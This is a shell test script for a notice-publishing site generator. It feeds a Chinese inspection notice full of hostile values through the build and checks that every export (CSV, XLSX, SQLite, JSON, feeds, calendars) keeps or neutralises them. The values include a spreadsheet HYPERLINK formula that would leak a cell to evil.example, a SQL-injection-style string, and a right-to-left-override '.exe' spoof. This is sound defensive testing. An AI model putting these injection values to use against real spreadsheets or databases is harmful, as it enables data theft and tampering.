# SPDX-License-Identifier: MIT
# A notice whose words mean harm to spreadsheets, pages, feeds, calendars and databases: in every download they come back
# as they stand in the ledger, or are refused by name. (Cells that no notice can have: tables_test.sh.)
set -u
tongbao=$(realpath "$1")
. tests/expect.sh
here=$PWD
python=python3
"$python" -c 'import icalendar' 2>/dev/null || python=/usr/bin/python3
"$python" -c 'import icalendar' 2>/dev/null || exit 77
mkdir "$work/site" && cd "$work/site" || exit 1

cat >words.py <<'END'
import os
CELLS = ["=1+1", "+86755", "-2", "@SUM(A1)", '=HYPERLINK("http://evil.example/?"&A1,"x")', 'a"b"c', "one,two;three\\four",
         "😀🇨🇳笑", "\u202egpj.exe\u202c", "&lt;i>]]>", "{{name}}{{{name_html}}}", "';DROPTABLEnotice;--", "字" * 32767]
TITLES = [cell[:40] + "没有落实问题" for cell in CELLS]
NAME, TITLE = '=1+1"<b>&amp;😀\u202e,;\\委员会', '@SUM(A1)"<i>&amp;😀\u202e,;\\'
ADDRESS, SITE = '=1+1路"\\😀\u202e8号', '=1+1 "<站>", & 😀;\\'
if __name__ == "__main__":
    os.makedirs("content/notices")
    def put(name, text): open("content/" + name, "w", encoding="utf-8").write(text)
    put("site.yaml", f"name: '{SITE}'\n")
    put("organisations.yaml", f"organisations:\n  - name: '{NAME}'\n    slug: evil\n")
    put("notices/evil.yaml", f"organisation: '{NAME}'\ntitle: '{TITLE}'\ncomment:\n  received: 1\n  outcome: '{TITLE}'\n")
    items = "".join(f"#### {n}. {title}\n\n整改情况：{cell.replace('&lt;', '&amp;lt;')}\n\n整改状态：已完成\n\n"
                    for n, (title, cell) in enumerate(zip((title.replace("&lt;", "&amp;lt;") for title in TITLES), CELLS), 1))
    put("notices/evil.md", f"# 中共云岭市青浦区和平社区委员会关于巡察整改进展情况的通报\n\n2025年3月3日至5月9日，区委第二巡察组对党委进行了巡察。\n\n"
        f"## 一、巡察整改任务落实情况\n\n### （一）关于落实决策部署方面\n\n{items}"
        f"公示期：2025年9月12日至2025年10月12日。联系电话：0755-5550001；邮寄地址：{ADDRESS}\n\n中共云岭市青浦区和平社区委员会\n\n2025年9月12日\n")
END
expect "the notice" 0 python3 words.py
expect "it is built" 0 "$tongbao" --templates "$here/templates" build --keep-going --without archive,search --today 2025-09-20

cat >check.py <<'END'
import csv, glob, json, sqlite3, sys
import xml.etree.ElementTree as tree
import icalendar
sys.path.insert(0, sys.argv[1])
from words import ADDRESS, CELLS, NAME, SITE, TITLE, TITLES
from workbook import Book
csv.field_size_limit(1 << 20)
site, data = "site/current/", "site/current/data/"
def same(what, found, expected):
    if found != expected: sys.exit(f"{what}: {[pair for pair in zip(found, expected) if pair[0] != pair[1]][:1] or (len(found), len(expected))}")
def guarded(cell): return "'" + cell if cell[0] in "=+-@\t\r" else cell
def rows(name): return list(csv.DictReader(open(data + name, encoding="utf-8-sig", newline=""), strict=True))

QUERY = "SELECT title, (SELECT text FROM measure WHERE measure.issue = issue.id) FROM issue ORDER BY {}"
words = list(zip(TITLES, CELLS))
same("the ledger", sqlite3.connect("site/ledger.sqlite").execute(QUERY.format("rank")).fetchall(), words)
taken = sqlite3.connect(data + "ledger.sqlite")
same("SQLite", taken.execute(QUERY.format("id")).fetchall(), words)
same("SQLite", taken.execute("SELECT notice.title, body.name, outcome FROM notice JOIN organisation AS body").fetchall(), [(TITLE, NAME, TITLE)])
same("its view", taken.execute("SELECT 问题, 单位 FROM 问题台账").fetchall(), [(title, NAME) for title in TITLES])
for name, columns in (("items.csv", ("问题", "整改举措", "单位")), ("items.ascii.csv", ("title", "measure_texts", "organisation"))):
    same(name, [tuple(row[column] for column in columns) for row in rows(name)], [tuple(map(guarded, (*pair, NAME))) for pair in words])
    assert not any(cell[:1] in tuple("=+-@\t\r") for row in rows(name) for cell in row.values()), name
same("JSON", [(row["title"], row["measure_texts"], row["organisation"]) for row in json.load(open(data + "items.json", encoding="utf-8"))], [(*pair, NAME) for pair in words])
same("JSON", [row["title"] for row in json.load(open(data + "notices.json", encoding="utf-8"))], [TITLE])
book = Book(data + "ledger.xlsx")
same("XLSX", [(row["问题"], row["整改举措"], row["单位"]) for row in book.rows("问题台账")], [(*pair, NAME) for pair in words])
same("XLSX", [row["标题"] for row in book.rows("通报")], [TITLE])
assert not any(b"<f>" in book.read_bytes(sheet) for sheet in book.sheets.values())
for name in (data + "notices.ndjson", *glob.glob(site + "notice/*/evil.json")):
    record, = (json.loads(line) for line in open(name, encoding="utf-8"))
    same(name, [(item["title"], *item["measure_texts"]) for section in record["sections"] for item in section["issues"]], words)
    assert [note["said"] for note in record["overruled"] if note["fact"] == "title"] == [TITLE], name
atom = "{http://www.w3.org/2005/Atom}"
for name in ("feed.xml", "organisation/evil.xml"):
    feed = tree.parse(site + name).getroot()
    entry = feed.find(atom + "entry")
    same(name, [entry.find(atom + "title").text, entry.find(f"{atom}author/{atom}name").text], [TITLE, NAME])
    assert name != "feed.xml" or feed.find(atom + "title").text == SITE
for name in (site + "comment.ics", *glob.glob(site + "notice/*/evil.ics")):
    lines = open(name, "rb").read().split(b"\r\n")
    assert all(len(line) <= 75 and line.decode("utf-8") is not None for line in lines), name
    calendar = icalendar.Calendar.from_ical(b"\r\n".join(lines))
    event, = calendar.walk("VEVENT")
    assert not name.endswith("comment.ics") or calendar["X-WR-CALNAME"] == SITE, calendar["X-WR-CALNAME"]
    assert ADDRESS in event["DESCRIPTION"].split("\n")[1], event["DESCRIPTION"]
END
expect "every download says what the ledger says" 0 "$python" check.py "$here/tests/site"

printf '# 中共云岭市和平社区委员会关于巡察整改进展情况的通报\n\na\0b\n' >content/notices/nul.md
expect "a NUL is refused" 1 "$tongbao" --lang en --templates "$here/templates" build --without archive,search --today 2025-09-20
has "$err" "notices/nul.md"
has "$err" "a NUL at byte"
finish
